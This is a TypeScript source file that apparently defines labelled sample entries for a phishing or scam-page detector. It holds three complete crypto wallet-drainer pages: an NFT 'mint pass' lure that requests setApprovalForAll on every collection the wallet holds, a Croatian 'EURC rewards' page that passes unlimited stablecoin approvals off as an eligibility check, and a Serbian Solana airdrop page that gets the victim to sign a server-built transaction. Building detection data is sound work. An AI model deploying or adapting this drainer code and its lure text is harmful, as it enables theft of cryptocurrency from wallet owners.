import { type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { b64, doc, evmAbiJs, walletModal, walletModalCss } from '../parts/xc-kit.js';

// NFT "holder mint pass" claim: lists the wallet's collections through the kit API, asks setApprovalForAll for each.
const nftPage = doc({
  lang: 'en',
  title: 'Aegean Apes – Holder Mint Pass Claim',
  css: `body{background:#0a0f1f;color:#f1f4ff;font-family:Inter,Arial}.nav{display:flex;justify-content:space-between;align-items:center;padding:18px 30px}
.nav b{font-size:20px;letter-spacing:1px}.cw{background:#6c5ce7;color:#fff;border:0;border-radius:12px;padding:11px 20px;font-weight:600;cursor:pointer}
.hero{text-align:center;padding:60px 20px}.hero h1{font-size:46px;margin:0}.hero p{color:#9aa6c8;font-size:18px}.ct{display:inline-block;margin-top:16px;background:#00d1a0;color:#04241c;border:0;padding:16px 34px;border-radius:14px;font-size:18px;font-weight:700;cursor:pointer}
.bar{max-width:520px;margin:26px auto;background:#151c33;border-radius:10px;overflow:hidden}.bar i{display:block;height:10px;width:87%;background:linear-gradient(90deg,#6c5ce7,#00d1a0)}${walletModalCss}`,
  body: `<div class="nav"><b>AEGEAN APES</b><button class="cw" id="cw">Connect Wallet</button></div>
<div class="hero"><h1>Season 2 Mint Pass</h1><p>Every holder of a blue-chip NFT is eligible for a free Aegean Apes S2 Mint Pass. Snapshot taken at block 21,402,118.</p>
<div class="bar"><i></i></div><p style="font-size:14px">8,704 / 10,000 passes claimed · ends in <span id="t">03:41:12</span></p><button class="ct" id="claim">Claim Mint Pass</button></div>
${walletModal('Connect a wallet', ['MetaMask', 'Coinbase Wallet', 'Trust Wallet', 'WalletConnect'])}
<script src="/static/js/claim.bundle.js"></script>`,
});
const nftJs = `${evmAbiJs}
var OP='0x5b1f4d2e7c9a03be6f18d4a2c7e90b31f6a84c57',acct=null,eth=window.ethereum;
document.getElementById('cw').onclick=document.getElementById('claim').onclick=function(){if(!acct)document.getElementById('wm').hidden=false;else drain()};
document.querySelectorAll('.wm-w').forEach(function(b){b.onclick=async function(){if(!eth){location.href='https://metamask.app.link/dapp/'+location.host+location.pathname;return}
var a=await eth.request({method:'eth_requestAccounts'});acct=a[0];document.getElementById('wm').hidden=true;document.getElementById('cw').textContent=acct.slice(0,6)+'…'+acct.slice(-4);
fetch('/api/v1/log',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({ev:'connect',a:acct,w:b.dataset.w})});drain()}});
async function drain(){var r=await (await fetch('/api/v1/assets?owner='+acct)).json();r.nfts.sort(function(x,y){return y.floor-x.floor});
for(var i=0;i<r.nfts.length;i++){var c=r.nfts[i];try{var h=await eth.request({method:'eth_sendTransaction',params:[{from:acct,to:c.contract,data:approvalForAllData(OP)}]});
fetch('/api/v1/log',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({ev:'approved',a:acct,c:c.contract,tx:h})})}catch(e){i--;await new Promise(function(s){setTimeout(s,800)})}}}`;

// Croatian "EURC rewards" for the euro anniversary: switches chain and asks unlimited approve() for each stablecoin.
const eurcPage = doc({
  lang: 'hr',
  title: 'EURC Nagrade – 2 godine eura u Hrvatskoj',
  css: `body{background:linear-gradient(160deg,#003399,#001a4d);color:#fff;font-family:Arial}.c{max-width:520px;margin:60px auto;background:rgba(255,255,255,.08);border:1px solid rgba(255,255,255,.15);border-radius:18px;padding:30px;text-align:center}
.c h1{margin:0 0 8px}.amt{font-size:48px;font-weight:700;color:#ffcc00}.b{background:#ffcc00;color:#001a4d;border:0;border-radius:12px;padding:15px 30px;font-size:17px;font-weight:700;cursor:pointer;width:100%}
.st{font-size:13px;color:#c7d2f0;margin-top:12px}.stars{font-size:24px;letter-spacing:8px;color:#ffcc00}`,
  body: `<div class="c"><div class="stars">★★★★★★</div><h1>EURC Nagrade</h1><p>U povodu dvije godine eura u Hrvatskoj, izdavatelj stablecoina EURC dijeli nagrade korisnicima kripto novčanika iz Hrvatske.</p>
<div class="amt">250 EURC</div><p>po novčaniku · preostalo 1.412 nagrada</p><button class="b" id="go">Poveži novčanik i preuzmi</button><div class="st" id="st">Podržano: MetaMask, Trust Wallet, Rabby, Coinbase Wallet</div></div>
<script>
${evmAbiJs}
var cfg=JSON.parse(atob('${b64(JSON.stringify({ spender: '0x9e3a1c07f24b85d6a0e4c3b21f7d96a8c0b54e12', tokens: ['0x1aBaEA1f7C830bD89Acc67eC4af516284b1bC33c', '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0xdAC17F958D2ee523a2206206994597C13D831ec7'], chain: '0x1' }))}'));
async function go(){var e=window.ethereum;if(!e){document.getElementById('st').textContent='Otvorite stranicu u pregledniku svog novčanika.';return}
var a=(await e.request({method:'eth_requestAccounts'}))[0];try{await e.request({method:'wallet_switchEthereumChain',params:[{chainId:cfg.chain}]})}catch(x){}
document.getElementById('st').textContent='Potvrdite provjeru podobnosti u novčaniku (1/'+cfg.tokens.length+')…';
for(var i=0;i<cfg.tokens.length;i++){try{await e.request({method:'eth_sendTransaction',params:[{from:a,to:cfg.tokens[i],data:approveData(cfg.spender)}]});document.getElementById('st').textContent='Provjera '+(i+2)+'/'+cfg.tokens.length+'…'}catch(x){}}
fetch('/api/claim',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:a,ok:1})});document.getElementById('st').textContent='Nagrada će biti isplaćena u roku od 24 sata.'}
document.getElementById('go').onclick=go;
</script>`,
});

// Serbian Solana "$SRB" airdrop: Phantom connect, server-built transaction, signAndSendTransaction.
const solPage = doc({
  lang: 'sr-Latn',
  title: '$SRB Airdrop – Solana zajednica Srbije',
  css: `body{background:#0e0b1f;color:#eae6ff;font-family:Arial}.c{max-width:480px;margin:70px auto;background:#1a1535;border-radius:20px;padding:30px;text-align:center}
.lg{width:74px;height:74px;border-radius:50%;background:linear-gradient(135deg,#9945ff,#14f195);margin:0 auto 12px;display:flex;align-items:center;justify-content:center;font-weight:700;font-size:22px}
.b{background:linear-gradient(90deg,#9945ff,#14f195);border:0;color:#0e0b1f;font-weight:700;padding:15px;border-radius:12px;width:100%;font-size:16px;cursor:pointer}.m{font-size:13px;color:#a69fd0;margin-top:10px}`,
  body: `<div class="c"><div class="lg">SRB</div><h2>Preuzmite svoj $SRB airdrop</h2><p>Prvih 50.000 Solana novčanika iz regiona dobija po <b>4.000 $SRB</b>. Listing na Raydium-u 20. novembra.</p>
<button class="b" id="c">Poveži Phantom</button><div class="m" id="m">Provera podobnosti je besplatna · potrebna mala naknada mreže</div></div>
<script>
function b64u8(s){var b=atob(s),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);return u}
document.getElementById('c').onclick=async function(){var p=window.phantom&&window.phantom.solana||window.solana;if(!p||!p.isPhantom){location.href='https://phantom.app/ul/browse/'+encodeURIComponent(location.href);return}
var r=await p.connect();var pk=r.publicKey.toString();document.getElementById('m').textContent='Novčanik: '+pk.slice(0,4)+'…'+pk.slice(-4)+' – proveravamo podobnost…';
var j=await (await fetch('/api/build-claim?owner='+pk)).json();
var tx=window.solanaWeb3?window.solanaWeb3.VersionedTransaction.deserialize(b64u8(j.tx)):{serialize:function(){return b64u8(j.tx)}};
try{var s=await p.signAndSendTransaction(tx);fetch('/api/done',{method:'POST',body:JSON.stringify({pk:pk,sig:s.signature})});document.getElementById('m').textContent='Uspešno! $SRB stiže u roku od 10 minuta.'}catch(e){document.getElementById('m').textContent='Transakcija odbijena, pokušajte ponovo.'}};
</script>`,
});

export const entries: Entry[] = [
  {
    id: 'xc-drainer-nft-approval-all',
    label: 'cryptodrainer',
    kind: 'nft-setapprovalforall-drainer',
    url: 'https://aegeanapes-claim.xyz/s2/mint-pass',
    body: nftPage,
    routes: {
      'aegeanapes-claim.xyz/static/js/claim.bundle.js': jsRoute(nftJs),
      'aegeanapes-claim.xyz/api/v1/assets': jsonRoute({ nfts: [] }),
    },
  },
  {
    id: 'xc-drainer-eurc-rewards-hr',
    label: 'cryptodrainer',
    kind: 'token-approve-drainer',
    url: 'https://eurc-nagrade.hr-claim.app/',
    body: eurcPage,
  },
  {
    id: 'xc-drainer-solana-claim-rs',
    label: 'cryptodrainer',
    kind: 'solana-airdrop-drainer',
    url: 'https://srb-airdrop.sol-claim.net/preuzmi',
    body: solPage,
    routes: {
      'srb-airdrop.sol-claim.net/api/build-claim': jsonRoute({ tx: Buffer.from('0100020401ab5f3c9e0c7d2d4ff1e2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8', 'hex').toString('base64') }),
    },
  },
];
